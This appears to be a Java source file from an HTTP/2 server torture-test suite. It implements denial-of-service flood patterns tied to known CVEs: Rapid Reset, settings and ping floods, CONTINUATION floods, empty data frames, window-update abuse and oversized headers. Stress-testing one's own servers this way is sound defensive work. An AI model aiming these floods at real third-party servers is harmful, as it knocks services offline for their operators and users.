package io.onceward.torture.hostile;

import java.io.ByteArrayOutputStream;
import java.util.HashMap;
import java.util.Map;

/** Peers that speak HTTP/2 as it may be spoken, only too much of it. */
final class FloodAttacks {
  private static final int PEERS = 4;
  private static final int FRAMES_PER_STRIKE = 25;
  private static final int HEADER_BLOCK_BYTES = 4_096;

  private FloodAttacks() {}

  /** Streams that are opened and given up at once (CVE-2023-44487). */
  static Strike rapidReset(Siege siege) {
    Map<RawPeer, Integer> streams = new HashMap<>();
    return () -> {
      siege.hold(PEERS, Frames.hello());
      for (RawPeer peer : siege.peers()) {
        for (int i = 0; i < FRAMES_PER_STRIKE; i++) {
          int stream = streams.merge(peer, 2, Integer::sum) - 1;
          if (!peer.send(Frames.join(Frames.call(stream, siege.path()), Frames.reset(stream)))) {
            break;
          }
          siege.count(1);
        }
      }
    };
  }

  /** Settings that change all the time, each of which is to be confirmed (CVE-2019-9515). */
  static Strike settings(Siege siege) {
    return repeated(siege, Frames.hello(), Frames.setting(Frames.SETTING_INITIAL_WINDOW, 1_000));
  }

  /** Pings, each of which is to be answered (CVE-2019-9512). */
  static Strike pings(Siege siege) {
    return repeated(siege, Frames.hello(), Frames.ping());
  }

  /** Headers without an end (CVE-2024-27983 and others). */
  static Strike continuations(Siege siege) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    Frames.header(block, "x-more", "y".repeat(HEADER_BLOCK_BYTES));
    return repeated(
        siege,
        Frames.join(
            Frames.hello(), Frames.frame(Frames.HEADERS, 0, 1, Frames.callHeaders(siege.path()))),
        Frames.frame(Frames.CONTINUATION, 0, 1, block.toByteArray()));
  }

  /** Continuations with nothing in them, which grow no limit of bytes. */
  static Strike emptyContinuations(Siege siege) {
    return repeated(
        siege,
        Frames.join(
            Frames.hello(), Frames.frame(Frames.HEADERS, 0, 1, Frames.callHeaders(siege.path()))),
        Frames.frame(Frames.CONTINUATION, 0, 1));
  }

  /** Data frames without data (CVE-2019-9518). */
  static Strike emptyData(Siege siege) {
    return repeated(
        siege,
        Frames.join(Frames.hello(), Frames.call(1, siege.path())),
        Frames.data(1, new byte[0]));
  }

  /** Windows that grow by nothing, by one, and beyond what is allowed. */
  static Strike windowUpdates(Siege siege) {
    byte[] greeting = Frames.join(Frames.hello(), Frames.call(1, siege.path()));
    int[] strikes = {0};
    return () -> {
      siege.hold(PEERS, greeting);
      int increment =
          switch (strikes[0]++ % 100) {
            case 98 -> 0;
            case 99 -> Integer.MAX_VALUE;
            default -> 1;
          };
      byte[] frames =
          Frames.join(Frames.windowUpdate(0, increment), Frames.windowUpdate(1, increment));
      for (RawPeer peer : siege.peers()) {
        for (int i = 0; i < FRAMES_PER_STRIKE && peer.send(frames); i++) {
          siege.count(2);
        }
      }
    };
  }

  /** Calls with far more headers than a client has. */
  static Strike hugeHeaders(Siege siege) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(Frames.callHeaders(siege.path()));
    for (int i = 0; i < 12; i++) {
      Frames.header(block, "x-header-" + i, "y".repeat(1_000));
    }
    Map<RawPeer, Integer> streams = new HashMap<>();
    return () -> {
      siege.hold(PEERS, Frames.hello());
      for (RawPeer peer : siege.peers()) {
        int stream = streams.merge(peer, 2, Integer::sum) - 1;
        if (peer.send(
            Frames.frame(Frames.HEADERS, Frames.END_HEADERS, stream, block.toByteArray()))) {
          siege.count(1);
        }
      }
    };
  }

  private static Strike repeated(Siege siege, byte[] greeting, byte[] frame) {
    return () -> {
      siege.hold(PEERS, greeting);
      for (RawPeer peer : siege.peers()) {
        for (int i = 0; i < FRAMES_PER_STRIKE && peer.send(frame); i++) {
          siege.count(1);
        }
      }
    };
  }
}
